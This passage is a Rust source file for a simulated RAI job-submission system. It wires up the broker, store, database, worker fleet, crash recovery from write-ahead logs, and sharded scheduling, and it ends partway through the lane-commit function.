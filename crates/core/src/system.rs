//! Whole-system assembly: one call stands up the broker, file server,
//! database, credential registry, image registry and a worker fleet —
//! the in-process equivalent of the paper's Fig. 1 deployment.

use crate::client::{
    ProjectDir, RaiClient, SubmitError, SubmitMode, SubmitReceipt, BUILD_BUCKET,
    UPLOAD_BUCKET,
};
use crate::interactive::{InteractiveSession, SessionBroker, SessionConfig, SessionError};
use crate::ranking::RankingBoard;
use crate::ratelimit::{RateDecision, RateLimiter};
use crate::worker::{ExecutedJob, JobOutcome, StepEvent, Worker, WorkerConfig};
use parking_lot::RwLock;
use rai_auth::{Credentials, CredentialRegistry, KeyGenerator};
use rai_broker::{Broker, BrokerConfig, BrokerStats};
use rai_faults::{CrashKind, FaultInjector, FaultPlan, RetryPolicy};
use rai_db::{doc, Database};
use rai_exec::Executor;
use rai_sandbox::{ImageRegistry, ResourceLimits};
use rai_sim::{SimDuration, VirtualClock};
use rai_store::{LifecycleRule, ObjectStore, StoreRecovery, StoreUsage};
use rai_telemetry::{component, names, stage, MetricsSnapshot, Telemetry};
use rai_wal::{DurabilityConfig, LogBackend, Wal};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// Deployment configuration.
#[derive(Clone, Debug)]
pub struct SystemConfig {
    /// Worker count.
    pub workers: usize,
    /// Concurrent jobs per worker (paper: >1 early, 1 for benchmarking).
    pub jobs_per_worker: usize,
    /// Relative GPU speed of the fleet (K80 = 1.0).
    pub gpu_speed: f64,
    /// Container limits.
    pub limits: ResourceLimits,
    /// Per-user minimum submission interval; `None` disables.
    pub rate_limit: Option<SimDuration>,
    /// Seed for key generation and worker noise.
    pub seed: u64,
    /// Per-message delivery cap before the broker dead-letters it
    /// (0 disables). Bounds redelivery loops from poison jobs.
    pub broker_attempts: u32,
    /// Deterministic fault plan; `None` (and [`FaultPlan::none`]) run
    /// the system fault-free.
    pub fault_plan: Option<FaultPlan>,
    /// Create the hot-path secondary indexes (submissions by `job_id`,
    /// rankings by `team` and `runtime_secs`, teams by `team`) at
    /// deployment time. On: every per-job upsert is a point lookup.
    /// Off: those queries fall back to full collection scans — the
    /// pre-overhaul behaviour, kept as `perf_report`'s reference run.
    /// Results are identical either way; only wall-clock differs.
    pub db_hot_indexes: bool,
    /// Width of the [`rai_exec::Executor`] the payload pipeline
    /// (chunking, digesting, chunk validation) runs on. `1` keeps
    /// every transform inline on the event loop — the preserved
    /// reference configuration — while `N > 1` stands up an N-worker
    /// work-stealing pool. Offloaded work is pure and joined in input
    /// order, so results (and `SemesterResult::fingerprint()`) are
    /// byte-identical at every setting; only wall-clock differs
    /// (DESIGN.md §12).
    pub parallelism: usize,
    /// Durability knobs for the write-ahead logs behind the database
    /// and the object store. Disabled by default — the preserved
    /// in-memory configuration, byte-identical to pre-WAL behaviour.
    /// Takes effect through [`RaiSystem::with_clock_durable`] /
    /// [`RaiSystem::recover_with_clock`], which supply the log
    /// backends (DESIGN.md §14).
    pub durability: DurabilityConfig,
    /// Lock-domain shard count (DESIGN.md §16). Partitions the store's
    /// chunk arena by digest prefix (with one WAL lane per shard under
    /// durability), the database's collections by primary-key hash,
    /// and — fault-free only — [`RaiSystem::drive_until`]'s commit
    /// phase into `shards` lanes keyed by `job_id % shards`. Shard
    /// assignment is a pure function of digest/key/job id, so results
    /// and fingerprints are byte-identical at every setting; only
    /// contention (and therefore wall-clock) changes. `1` — the
    /// default — is the preserved single-lock reference configuration.
    pub shards: usize,
    /// Claim-lane count (DESIGN.md §17). Fault-free only,
    /// [`RaiSystem::drive_until`]'s claim *tail* (auth, build-spec
    /// parse, image resolve, payload fetch) fans out across
    /// `claim_lanes` lanes keyed by a hash of the job's log topic; the
    /// order-defining pop half stays serial and results are re-sorted
    /// into pop order before execute, so outcomes and
    /// `SemesterResult::fingerprint()` are byte-identical at every
    /// setting. `1` — the default — is the preserved serial reference
    /// claim schedule. Fault-plan runs always claim serially because
    /// the injector's draw stream is ordering-visible.
    pub claim_lanes: usize,
}

impl Default for SystemConfig {
    fn default() -> Self {
        SystemConfig {
            workers: 1,
            jobs_per_worker: 1,
            gpu_speed: 1.0,
            limits: ResourceLimits::default(),
            rate_limit: Some(SimDuration::from_secs(30)),
            seed: 0x5EED,
            broker_attempts: 8,
            fault_plan: None,
            db_hot_indexes: true,
            parallelism: 1,
            durability: DurabilityConfig::default(),
            shards: 1,
            claim_lanes: 1,
        }
    }
}

/// What crash recovery replayed from the two write-ahead logs.
#[derive(Clone, Copy, Debug, Default)]
pub struct RecoveryReport {
    /// Database replay outcome.
    pub db: rai_db::DbRecovery,
    /// Object-store replay outcome.
    pub store: StoreRecovery,
}

/// Aggregate usage numbers (paper §VII "Resource Usage").
#[derive(Clone, Debug)]
pub struct SystemReport {
    /// File-server usage.
    pub store: StoreUsage,
    /// Broker statistics.
    pub broker: BrokerStats,
    /// Rows in the submissions collection.
    pub submissions: usize,
    /// Registered teams.
    pub teams: usize,
    /// Telemetry snapshot (counters, gauges, stage histograms).
    pub metrics: MetricsSnapshot,
}

/// An in-process RAI deployment.
pub struct RaiSystem {
    clock: VirtualClock,
    broker: Broker,
    store: ObjectStore,
    db: Database,
    registry: Arc<RwLock<CredentialRegistry>>,
    images: Arc<ImageRegistry>,
    workers: Vec<Worker>,
    rate_limiter: Option<RateLimiter>,
    keygen: KeyGenerator,
    next_job_id: Arc<AtomicU64>,
    sessions: SessionBroker,
    telemetry: Telemetry,
    injector: Option<FaultInjector>,
    executor: Executor,
    /// Commit-lane count (`config.shards`); lanes are keyed by
    /// `job_id % lanes` (DESIGN.md §16).
    lanes: usize,
    /// Claim-lane count (`config.claim_lanes`); lanes are keyed by a
    /// hash of the job's log topic (DESIGN.md §17).
    claim_lanes: usize,
}

/// In-flight timeout used when a stalled worker holds a claim: the
/// driver advances the clock past it and reclaims.
const MESSAGE_TIMEOUT: SimDuration = SimDuration::from_mins(10);

/// Claim-lane assignment: FNV-1a over the job's log topic, reduced
/// modulo the lane count. Hashing the topic (rather than taking
/// `job_id % lanes` as the commit side does) spreads the adjacent job
/// ids a burst produces across lanes instead of striping them, and
/// keys the lane by the same name the broker's per-topic state is
/// partitioned on (DESIGN.md §17).
fn claim_lane_of(job_id: u64, lanes: usize) -> usize {
    let topic = crate::protocol::routes::log_topic(job_id);
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in topic.as_bytes() {
        h ^= u64::from(*b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    (h % lanes as u64) as usize
}

impl RaiSystem {
    /// Stand up a deployment.
    pub fn new(config: SystemConfig) -> Self {
        let clock = VirtualClock::new();
        Self::with_clock(config, clock)
    }

    /// Stand up a deployment on an existing clock (for discrete-event
    /// drivers).
    pub fn with_clock(config: SystemConfig, clock: VirtualClock) -> Self {
        let store = ObjectStore::with_shards(clock.clone(), config.shards.max(1));
        let db = Database::new();
        Self::finish_deploy(config, clock, db, store, None)
    }

    /// Stand up a *durable* deployment: every committed database and
    /// store mutation is journaled to the supplied log backends, and
    /// [`RaiSystem::recover_with_clock`] can rebuild the deployment
    /// from them after a crash (DESIGN.md §14).
    pub fn with_clock_durable(
        config: SystemConfig,
        clock: VirtualClock,
        db_log: Arc<dyn LogBackend>,
        store_log: Arc<dyn LogBackend>,
    ) -> Self {
        let shards = config.shards.max(1);
        let store = ObjectStore::with_shards(clock.clone(), shards);
        let db = Database::new();
        // Attach before the first mutation so the logs cover the whole
        // history — bucket creation and index builds included. At
        // `shards > 1` the store's backend is striped into a main
        // object log plus one chunk lane per arena shard; at 1 it
        // carries the legacy single log byte-for-byte.
        db.attach_wal(Wal::open(db_log, config.durability));
        let (main, chunk_wals) =
            ObjectStore::open_store_logs(store_log, config.durability, shards);
        store.attach_logs(main, chunk_wals);
        Self::finish_deploy(config, clock, db, store, None)
    }

    /// Rebuild a deployment from its write-ahead logs after a crash.
    ///
    /// Process state (broker queues, worker claims, in-memory
    /// credentials) died with the process and is stood up fresh;
    /// durable state (database, store) is replayed. The caller then
    /// re-registers teams in their original order (credentials are
    /// deterministic in seed + order), re-subscribes any audit taps,
    /// and calls [`RaiSystem::republish_pending`] to re-enqueue
    /// accepted submissions that never reached a terminal row — the
    /// at-least-once path that makes a mid-run kill recoverable.
    ///
    /// `injector` carries over the *environment's* fault state: the
    /// injector's draw counters model the outside world (which doesn't
    /// reset when the service restarts), so restart-resume runs pass
    /// the pre-kill injector here. `None` creates a fresh one from
    /// `config.fault_plan`.
    pub fn recover_with_clock(
        config: SystemConfig,
        clock: VirtualClock,
        db_log: Arc<dyn LogBackend>,
        store_log: Arc<dyn LogBackend>,
        injector: Option<FaultInjector>,
    ) -> (Self, RecoveryReport) {
        let shards = config.shards.max(1);
        let (db, db_recovery) =
            Database::recover_sharded(Wal::open(db_log, config.durability), shards);
        let (main, chunk_wals) =
            ObjectStore::open_store_logs(store_log, config.durability, shards);
        let (store, store_recovery) =
            ObjectStore::recover_sharded(clock.clone(), main, chunk_wals);
        let system = Self::finish_deploy(config, clock, db, store, injector);
        // Job ids resume after the highest journaled intent so
        // post-recovery submissions never collide with replayed ones.
        let max_seen = system
            .db
            .collection("intents")
            .read()
            .find(&doc! {})
            .iter()
            .filter_map(|row| row.get("job_id").and_then(rai_db::Value::as_i64))
            .max()
            .unwrap_or(0);
        system.next_job_id.store(max_seen as u64 + 1, Ordering::Relaxed);
        (system, RecoveryReport { db: db_recovery, store: store_recovery })
    }

    /// Shared tail of every constructor: buckets/indexes (idempotent —
    /// replayed state is left alone), fault layer, worker fleet,
    /// telemetry collectors.
    fn finish_deploy(
        config: SystemConfig,
        clock: VirtualClock,
        db: Database,
        store: ObjectStore,
        injector_override: Option<FaultInjector>,
    ) -> Self {
        let broker = Broker::with_clock(
            BrokerConfig {
                max_attempts: config.broker_attempts,
                ..Default::default()
            },
            clock.clone(),
        );
        // Hash-partition collections created from here on. A recovered
        // database was already rebuilt at this count; re-stating it is
        // idempotent and covers the fresh-deploy path.
        db.set_shards(config.shards.max(1));
        // One pool for the whole deployment: client uploads, worker
        // uploads and server-side validation share it, mirroring how a
        // real host's cores are shared across the pipeline.
        let executor = Executor::new(config.parallelism);
        store.set_executor(executor.clone());
        if !store.has_bucket(UPLOAD_BUCKET) {
            store
                .create_bucket(UPLOAD_BUCKET, LifecycleRule::one_month_after_last_use())
                .expect("bucket absence just checked");
        }
        if !store.has_bucket(BUILD_BUCKET) {
            store
                .create_bucket(BUILD_BUCKET, LifecycleRule::AfterUpload(SimDuration::from_days(90)))
                .expect("bucket absence just checked");
        }
        if config.db_hot_indexes {
            // The write paths these serve: one submissions upsert per
            // job attempt (keyed by job_id), one rankings upsert per
            // final submission (keyed by team), leaderboard reads
            // sorted by runtime_secs, and team lookups at registration.
            db.collection("submissions").write().create_index("job_id");
            let rankings = db.collection("rankings");
            rankings.write().create_index("team");
            rankings.write().create_index("runtime_secs");
            db.collection("teams").write().create_index("team");
        }
        if db.wal().is_some() {
            // The recovery path scans intents by job_id (one point
            // lookup per accepted submission).
            db.collection("intents").write().create_index("job_id");
        }
        let registry = Arc::new(RwLock::new(CredentialRegistry::new()));
        let images = Arc::new(ImageRegistry::course_default());
        let telemetry = Telemetry::new(clock.clone());
        // Attach the deterministic fault layer before any traffic
        // flows. A recovery pass hands in the pre-crash injector: its
        // draw counters model the environment, which does not reset
        // when the service restarts.
        let injector = injector_override
            .or_else(|| config.fault_plan.clone().map(FaultInjector::new));
        if let Some(inj) = &injector {
            store.set_fault_injector(inj.clone());
            db.set_fault_injector(inj.clone());
            broker.set_fault_injector(inj.clone());
        }
        let workers = (0..config.workers.max(1))
            .map(|i| {
                let mut w = Worker::new(
                    WorkerConfig {
                        worker_id: format!("worker-{i:02}"),
                        max_in_flight: config.jobs_per_worker.max(1),
                        gpu_speed: config.gpu_speed,
                        limits: config.limits,
                        noise_seed: config.seed ^ (i as u64).wrapping_mul(0x9E3779B97F4A7C15),
                        retry: RetryPolicy::default(),
                    },
                    broker.clone(),
                    store.clone(),
                    db.clone(),
                    registry.clone(),
                    images.clone(),
                );
                w.set_telemetry(telemetry.clone());
                w.set_executor(executor.clone());
                if let Some(inj) = &injector {
                    w.set_fault_injector(inj.clone());
                }
                w
            })
            .collect();
        // Pull-style collectors: broker / store / db keep their own
        // counters; these mirror them into the registry at snapshot time.
        {
            let broker2 = broker.clone();
            let broker = broker.clone();
            telemetry.register_collector(move |reg| {
                let s = broker.stats();
                reg.counter(names::BROKER_PUBLISHED_TOTAL, &[]).store(s.published);
                reg.counter(names::BROKER_ACKED_TOTAL, &[]).store(s.acked);
                reg.counter(names::BROKER_REQUEUED_TOTAL, &[]).store(s.requeued);
                reg.counter(names::DEAD_LETTERED_TOTAL, &[]).store(s.dead_lettered);
                reg.gauge(names::BROKER_QUEUE_DEPTH, &[]).set(s.depth as f64);
                reg.gauge(names::BROKER_IN_FLIGHT, &[]).set(s.in_flight as f64);
                reg.gauge(names::BROKER_CHANNELS, &[]).set(s.channels as f64);
            });
            if let Some(inj) = injector.clone() {
                telemetry.register_collector(move |reg| {
                    for (kind, n) in inj.injected_counts() {
                        reg.counter(names::FAULTS_INJECTED_TOTAL, &[("kind", kind)]).store(n);
                    }
                });
            }
            let store2 = store.clone();
            telemetry.register_collector(move |reg| {
                let u = store2.usage();
                reg.counter(names::STORE_BYTES_UPLOADED_TOTAL, &[]).store(u.bytes_uploaded);
                reg.counter(names::STORE_BYTES_DOWNLOADED_TOTAL, &[]).store(u.bytes_downloaded);
                reg.counter(names::STORE_PUTS_TOTAL, &[]).store(u.puts);
                reg.counter(names::STORE_GETS_TOTAL, &[]).store(u.gets);
                reg.counter(names::STORE_EXPIRED_TOTAL, &[]).store(u.expired);
                reg.gauge(names::STORE_BYTES_STORED, &[]).set(u.bytes_stored as f64);
                reg.gauge(names::STORE_OBJECTS, &[]).set(u.objects as f64);
                // Dedup split: logical = what a plain store would hold,
                // physical = distinct chunk bytes actually resident.
                reg.gauge(names::STORE_BYTES_LOGICAL, &[]).set(u.bytes_stored as f64);
                reg.gauge(names::STORE_BYTES_PHYSICAL, &[]).set(u.bytes_physical as f64);
                reg.gauge(names::STORE_CHUNKS, &[]).set(u.chunks as f64);
                reg.counter(names::STORE_CHUNKS_DEDUP_TOTAL, &[]).store(u.chunks_dedup_total);
                reg.counter(names::STORE_BYTES_WIRE_TOTAL, &[]).store(u.bytes_wire);
                reg.counter(names::STORE_DELTA_PUTS_TOTAL, &[]).store(u.delta_puts);
                // Lock-domain health (DESIGN.md §16/§17): contended
                // wait across the store's shard locks and the broker's
                // dirty-list stripes, plus per-shard occupancy. Host
                // facts — they vary with scheduling, never with the
                // simulation.
                reg.counter(names::LOCK_WAIT_MICROS_TOTAL, &[])
                    .store(store2.lock_wait_micros() + broker2.lock_wait_micros());
                for (i, n) in store2.shard_chunk_counts().into_iter().enumerate() {
                    let shard = i.to_string();
                    reg.gauge(names::STORE_SHARD_CHUNKS, &[("shard", &shard)]).set(n as f64);
                }
            });
            let db2 = db.clone();
            telemetry.register_collector(move |reg| {
                let t = db2.total_stats();
                reg.counter(names::DB_INSERTS_TOTAL, &[]).store(t.inserts);
                reg.counter(names::DB_QUERIES_TOTAL, &[]).store(t.queries);
                reg.counter(names::DB_UPDATES_TOTAL, &[]).store(t.updates);
                for (i, n) in db2.shard_doc_counts().into_iter().enumerate() {
                    let shard = i.to_string();
                    reg.gauge(names::DB_SHARD_DOCS, &[("shard", &shard)]).set(n as f64);
                }
            });
            // Executor scheduling counters. These describe the *host*
            // machine's work-stealing behaviour, not the simulation, so
            // they vary with pool width and OS scheduling — report-only,
            // never folded into fingerprints or byte-identical exports.
            let exec2 = executor.clone();
            telemetry.register_collector(move |reg| {
                let s = exec2.stats();
                reg.counter(names::EXEC_SPAWNED_TOTAL, &[]).store(s.spawned);
                reg.counter(names::EXEC_INLINE_RUNS_TOTAL, &[]).store(s.inline_runs);
                reg.counter(names::EXEC_STOLEN_TOTAL, &[]).store(s.stolen);
                reg.counter(names::EXEC_PARKED_TOTAL, &[]).store(s.parked);
                reg.counter(names::EXEC_INJECTED_TOTAL, &[]).store(s.injected);
                reg.counter(names::EXEC_BATCHES_TOTAL, &[]).store(s.batches);
                reg.counter(names::EXEC_BATCH_JOBS_TOTAL, &[]).store(s.batch_jobs);
            });
            // Write-ahead log counters, one label set per journal.
            for (label, wal) in [("db", db.wal()), ("store", store.wal())] {
                let Some(wal) = wal else { continue };
                telemetry.register_collector(move |reg| {
                    let s = wal.stats();
                    let l = &[("log", label)];
                    reg.counter(names::WAL_APPENDS_TOTAL, l).store(s.appends);
                    reg.counter(names::WAL_BYTES_TOTAL, l).store(s.bytes);
                    reg.counter(names::WAL_FSYNC_BATCHES_TOTAL, l).store(s.fsync_batches);
                    reg.counter(names::WAL_REPLAYED_RECORDS_TOTAL, l).store(s.replayed);
                    reg.counter(names::WAL_CORRUPT_RECORDS_DROPPED_TOTAL, l)
                        .store(s.corrupt_dropped);
                    reg.counter(names::WAL_COMPACTIONS_TOTAL, l).store(s.compactions);
                    reg.gauge(names::WAL_SEGMENTS, l).set(s.segments as f64);
                    reg.gauge(names::WAL_LOG_BYTES, l).set(s.log_bytes as f64);
                });
            }
            // Sharded layouts add one journal lane per arena shard;
            // report them aggregated under a single label so the
            // exposition stays stable as `shards` varies.
            let lanes = store.chunk_wals();
            if !lanes.is_empty() {
                telemetry.register_collector(move |reg| {
                    let mut agg = rai_wal::WalStats::default();
                    for w in &lanes {
                        let s = w.stats();
                        agg.appends += s.appends;
                        agg.bytes += s.bytes;
                        agg.fsync_batches += s.fsync_batches;
                        agg.replayed += s.replayed;
                        agg.corrupt_dropped += s.corrupt_dropped;
                        agg.compactions += s.compactions;
                        agg.segments += s.segments;
                        agg.log_bytes += s.log_bytes;
                    }
                    let l = &[("log", "store-chunks")];
                    reg.counter(names::WAL_APPENDS_TOTAL, l).store(agg.appends);
                    reg.counter(names::WAL_BYTES_TOTAL, l).store(agg.bytes);
                    reg.counter(names::WAL_FSYNC_BATCHES_TOTAL, l).store(agg.fsync_batches);
                    reg.counter(names::WAL_REPLAYED_RECORDS_TOTAL, l).store(agg.replayed);
                    reg.counter(names::WAL_CORRUPT_RECORDS_DROPPED_TOTAL, l)
                        .store(agg.corrupt_dropped);
                    reg.counter(names::WAL_COMPACTIONS_TOTAL, l).store(agg.compactions);
                    reg.gauge(names::WAL_SEGMENTS, l).set(agg.segments as f64);
                    reg.gauge(names::WAL_LOG_BYTES, l).set(agg.log_bytes as f64);
                });
            }
        }
        let rate_limiter = config
            .rate_limit
            .map(|d| RateLimiter::new(clock.clone(), d));
        let images2 = images.clone();
        RaiSystem {
            clock,
            broker,
            store,
            db,
            registry,
            images,
            workers,
            rate_limiter,
            keygen: KeyGenerator::from_seed(config.seed),
            next_job_id: Arc::new(AtomicU64::new(1)),
            sessions: SessionBroker::new(images2),
            telemetry,
            injector,
            executor,
            lanes: config.shards.max(1),
            claim_lanes: config.claim_lanes.max(1),
        }
    }

    /// Register a team (generating credentials) and record its members.
    pub fn register_team(&mut self, team: &str, members: &[&str]) -> Credentials {
        let creds = self.keygen.generate(team);
        self.registry.write().register(creds.clone());
        self.db.collection("teams").write().insert_one(doc! {
            "team" => team,
            "members" => members.iter().map(|m| m.to_string()).collect::<Vec<_>>(),
            "access_key" => creds.access_key.as_str(),
        });
        creds
    }

    /// Re-issue a recovered team's credentials without inserting a new
    /// teams row (the row was replayed from the log). The key
    /// generator is deterministic in (seed, call order), so
    /// re-registering teams in their original order reproduces the
    /// original credentials — and the signatures inside journaled job
    /// requests keep verifying after a restart.
    pub fn reregister_team(&mut self, team: &str) -> Credentials {
        let creds = self.keygen.generate(team);
        self.registry.write().register(creds.clone());
        creds
    }

    /// Journaled submission intents with no terminal submissions row,
    /// in job-id (= original publish) order: `(job_id, encoded
    /// request)`. These are the accepted submissions a crash left
    /// in flight.
    pub fn pending_intents(&self) -> Vec<(u64, String)> {
        let intents = self.db.collection("intents");
        let submissions = self.db.collection("submissions");
        let mut out: Vec<(u64, String)> = Vec::new();
        for row in intents.read().find(&doc! {}) {
            let Some(id) = row.get("job_id").and_then(rai_db::Value::as_i64) else { continue };
            let Some(state) = row.get("state").and_then(rai_db::Value::as_str) else { continue };
            let Some(req) = row.get("req").and_then(rai_db::Value::as_str) else { continue };
            // "rejected" intents surfaced a visible error to the
            // student; everything else is at-least-once territory.
            if state != "pending" && state != "published" {
                continue;
            }
            if submissions
                .read()
                .find_one(&doc! { "job_id" => id })
                .is_some()
            {
                continue;
            }
            out.push((id as u64, req.to_string()));
        }
        out.sort_by_key(|(id, _)| *id);
        out
    }

    /// Re-enqueue every pending intent after recovery (the broker's
    /// queues died with the process). Publishes bypass fault
    /// injection — each request already survived its fault roll when
    /// first accepted. Returns how many jobs were re-published.
    pub fn republish_pending(&self) -> u64 {
        let mut republished = 0u64;
        for (_, req) in self.pending_intents() {
            if self
                .broker
                .publish_durable(crate::protocol::routes::TASK_TOPIC, req.into_bytes())
                .is_ok()
            {
                republished += 1;
            }
        }
        republished
    }

    /// Force both write-ahead logs' buffered appends to stable
    /// storage. No-op for non-durable deployments.
    pub fn sync_wals(&self) {
        self.db.sync_wal();
        self.store.sync_wal();
    }

    /// Compact both logs if their size warrants it (quiesced points
    /// only — e.g. between submission rounds). Returns (db, store)
    /// compaction flags.
    pub fn maybe_compact(&self) -> (bool, bool) {
        (self.db.maybe_compact(), self.store.maybe_compact())
    }

    /// Register an instructor: issues credentials and grants interactive
    /// session access (the paper's §VIII future work).
    pub fn register_instructor(&mut self, name: &str) -> Credentials {
        let creds = self.keygen.generate(name);
        self.registry.write().register(creds.clone());
        self.sessions.grant(&creds.access_key);
        creds
    }

    /// Open an interactive session (instructors only).
    pub fn open_session(
        &self,
        creds: &Credentials,
        project: &rai_archive::FileTree,
        config: &SessionConfig,
    ) -> Result<InteractiveSession, SessionError> {
        self.sessions.open(&creds.access_key, project, config)
    }

    /// A client handle for previously issued credentials.
    pub fn client_for(&self, creds: &Credentials) -> RaiClient {
        let mut client = RaiClient::new(
            creds.clone(),
            &creds.user_name,
            self.broker.clone(),
            self.store.clone(),
            self.next_job_id.clone(),
        )
        .with_executor(self.executor.clone());
        if self.db.wal().is_some() {
            // Durable deployments journal a submission intent before
            // publishing, closing the accepted-but-unqueued crash
            // window (DESIGN.md §14).
            client = client.with_intent_ledger(self.db.clone());
        }
        client
    }

    fn check_rate(&self, creds: &Credentials) -> Result<(), SubmitError> {
        if let Some(rl) = &self.rate_limiter {
            if let RateDecision::Denied { retry_after } = rl.check(&creds.access_key) {
                self.telemetry
                    .counter(names::RATELIMIT_DENIED_TOTAL, &[])
                    .inc();
                return Err(SubmitError::RateLimited {
                    retry_after_secs: retry_after.as_secs(),
                });
            }
        }
        Ok(())
    }

    /// Submit a development run and drive it to completion.
    pub fn submit(&mut self, creds: &Credentials, project: &ProjectDir) -> Result<SubmitReceipt, SubmitError> {
        self.submit_mode(creds, project, SubmitMode::Run)
    }

    /// Make a final submission (`rai submit`) and drive it to
    /// completion.
    pub fn submit_final(
        &mut self,
        creds: &Credentials,
        project: &ProjectDir,
    ) -> Result<SubmitReceipt, SubmitError> {
        self.submit_mode(creds, project, SubmitMode::Submit)
    }

    fn submit_mode(
        &mut self,
        creds: &Credentials,
        project: &ProjectDir,
        mode: SubmitMode,
    ) -> Result<SubmitReceipt, SubmitError> {
        self.check_rate(creds)?;
        let client = self.client_for(creds);
        let pending = client.begin_submit(project, mode)?;
        let job_id = pending.job_id;
        // The client uploads and publishes in one step, so submit and
        // enqueue share a timestamp in the trace. Attempt 0 is the
        // client's submit subtree; worker attempts start at 1.
        let now = self.clock.now();
        self.telemetry
            .trace_span(job_id, 0, stage::SUBMITTED, component::CLIENT, now, now);
        self.telemetry
            .trace_span(job_id, 0, stage::ENQUEUED, component::BROKER, now, now);
        self.drive_until(|o| o.job_id == job_id);
        pending.wait(Duration::from_millis(500))
    }

    /// Drive the fleet until `stop` matches an outcome or no worker
    /// makes progress, scheduling whole submissions concurrently
    /// (DESIGN.md §15).
    ///
    /// Each round claims at most one job per worker (serially, in
    /// worker order), runs every claim's execute phase on the shared
    /// pool via [`rai_exec::Executor::run_jobs`], then commits in claim
    /// order. Claim and commit are the only phases that touch
    /// broker/store/db, so fault draws, trace artifacts and database
    /// state are byte-identical at every pool width. The clock advances
    /// once per round by the batch's summed service time — the same
    /// total the sequential schedule accumulated job by job. Injected
    /// crashes restart their worker after the round (and stalls
    /// additionally wait out the in-flight timeout before the broker
    /// reclaims the held messages); either way the job messages survive
    /// to a later attempt. Returns all outcomes observed.
    ///
    /// When [`SystemConfig::shards`] > 1 and no fault injector is
    /// attached, the commit phase itself runs across `shards` lanes
    /// keyed by `job_id % lanes` (DESIGN.md §16): commits in different
    /// lanes proceed concurrently, commits within a lane stay in claim
    /// order. Likewise, when [`SystemConfig::claim_lanes`] > 1 the
    /// claim *tail* (auth, spec parse, image resolve, payload fetch)
    /// fans out across claim lanes keyed by a hash of the job's log
    /// topic, while the order-defining pop half stays serial and the
    /// results are re-sorted into pop order (DESIGN.md §17).
    /// Fault-plan runs keep the single-lane reference schedule on both
    /// phases because the injector's draw stream is ordering-visible.
    pub fn drive_until(&mut self, stop: impl Fn(&JobOutcome) -> bool) -> Vec<JobOutcome> {
        let mut outcomes = Vec::new();
        let executor = self.executor.clone();
        let lanes = if self.injector.is_none() { self.lanes } else { 1 };
        let claim_lanes = if self.injector.is_none() { self.claim_lanes } else { 1 };
        loop {
            // Pop phase: serial, round-robin worker order. Popping is
            // the order-defining half of a claim (queue ordering,
            // malformed acks, in-flight accounting), so it always runs
            // on the event loop.
            let popped: Vec<(usize, crate::worker::PoppedTask)> = self
                .workers
                .iter_mut()
                .enumerate()
                .filter_map(|(wi, w)| w.pop_task().map(|p| (wi, p)))
                .collect();
            if popped.is_empty() {
                return outcomes;
            }
            // Claim tail: auth, spec parse, image resolve, payload
            // fetch. Pure per-job against snapshot/read paths, so it
            // may fan out across claim lanes (DESIGN.md §17); results
            // come back re-sorted into pop order either way.
            let claims = self.claim_lanes_run(popped, claim_lanes);
            // Events come back in claim (rank) order on both paths, so
            // the accounting below is path-independent.
            let events: Vec<(usize, StepEvent)> = if lanes > 1 && claims.len() > 1 {
                executor.note_batch(claims.len());
                let executed: Vec<(usize, ExecutedJob)> =
                    executor.par_map(claims, |(wi, claimed)| (wi, Worker::execute(claimed)));
                self.commit_lanes(executed, lanes)
            } else {
                executor.run_jobs(
                    claims,
                    |(wi, claimed)| (wi, Worker::execute(claimed)),
                    |(wi, executed)| (wi, self.workers[wi].commit(executed)),
                )
            };
            let mut advance = SimDuration::ZERO;
            let mut stalled = false;
            let mut crashed: Vec<usize> = Vec::new();
            let mut stop_hit = false;
            for (wi, event) in events {
                match event {
                    StepEvent::Idle => unreachable!("commit always seals its claim"),
                    StepEvent::Done(outcome) => {
                        advance += outcome.service_time;
                        stop_hit |= stop(&outcome);
                        outcomes.push(outcome);
                    }
                    StepEvent::Crashed(report) => {
                        advance += report.wasted;
                        stalled |= report.kind == CrashKind::Stall;
                        crashed.push(wi);
                    }
                }
            }
            self.clock.advance(advance);
            if stalled {
                // Frozen processes hold their claims until the broker's
                // message timeout passes.
                self.clock.advance(MESSAGE_TIMEOUT);
                self.broker.reclaim_expired(MESSAGE_TIMEOUT);
            }
            for wi in crashed {
                self.workers[wi].crash_recover();
            }
            if stop_hit {
                return outcomes;
            }
        }
    }

    /// Commit one round's executed jobs across `lanes` independent
    /// lanes keyed by `job_id % lanes` (DESIGN.md §16). Lanes commit
    /// concurrently on the shared pool; within a lane commits stay in
    /// claim order. Two conflicts force the whole round back onto the
    /// serial claim-order path, because interleaving them would be
    /// outcome-visible: two uploads sharing a chunk digest (the dedup
    /// hit and wire bytes would depend on which lane lands first) and
    /// two ranking writes for the same team (a last-writer-wins
    /// upsert). Returns `(worker, event)` pairs in claim order
    /// regardless of which path ran.
    fn commit_lanes(
        &mut self,
        executed: Vec<(usize, ExecutedJob)>,
        lanes: usize,
    ) -> Vec<(usize, StepEvent)> {
        let conflict = {
            let mut digests = std::collections::HashSet::new();
            let mut teams = std::collections::HashSet::new();
            let mut hit = false;
            for (_, e) in &executed {
                for d in e.upload_digests() {
                    hit |= !digests.insert(d);
                }
                if e.writes_ranking() {
                    hit |= !teams.insert(e.team().to_string());
                }
            }
            hit
        };
        if conflict || executed.len() <= 1 {
            return executed
                .into_iter()
                .map(|(wi, e)| (wi, self.workers[wi].commit(e)))
                .collect();
        }
        let mut buckets: Vec<Vec<(usize, usize, ExecutedJob)>> =
            (0..lanes).map(|_| Vec::new()).collect();
        for (rank, (wi, e)) in executed.into_iter().enumerate() {
            let lane = (e.job_id() % lanes as u64) as usize;
            buckets[lane].push((rank, wi, e));
        }
        // Each worker holds at most one claim per round, so handing
        // each lane exclusive `&mut Worker`s is race-free.
        let mut slots: Vec<Option<&mut Worker>> = self.workers.iter_mut().map(Some).collect();
        let lane_work: Vec<Vec<(usize, usize, &mut Worker, ExecutedJob)>> = buckets
            .into_iter()
            .map(|bucket| {
                bucket
                    .into_iter()
                    .map(|(rank, wi, e)| {
                        let w = slots[wi].take().expect("one claim per worker per round");
                        (rank, wi, w, e)
                    })
                    .collect()
            })
            .filter(|work: &Vec<_>| !work.is_empty())
            .collect();
        let results: Vec<parking_lot::Mutex<Vec<(usize, usize, StepEvent)>>> =
            (0..lane_work.len()).map(|_| parking_lot::Mutex::new(Vec::new())).collect();
        self.executor.scope(|s| {
            for (li, work) in lane_work.into_iter().enumerate() {
                let out = &results[li];
                s.spawn(move || {
                    let mut events = Vec::with_capacity(work.len());
                    for (rank, wi, w, e) in work {
